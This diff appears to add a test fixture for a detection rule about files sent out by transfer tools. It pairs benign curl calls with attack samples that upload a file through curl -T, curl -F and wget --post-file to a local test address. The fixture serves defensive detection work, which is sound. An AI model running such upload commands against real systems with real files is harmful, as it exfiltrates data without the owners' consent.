@@ -1,0 +1,12 @@
+# Rule: File sent away by a transfer tool
+benign() {
+    curl -s --max-time 1 -d status=ok http://192.0.2.1:1/hook
+    curl -s --max-time 1 -o file http://192.0.2.1:1/file
+}
+attack() {
+    echo x > file
+    curl -s --max-time 1 -T file http://127.0.0.2:1/
+    curl -s --max-time 1 -F data=@file http://127.0.0.2:1/
+    named wget
+    wget -q --post-file=file http://127.0.0.2:1/
+}
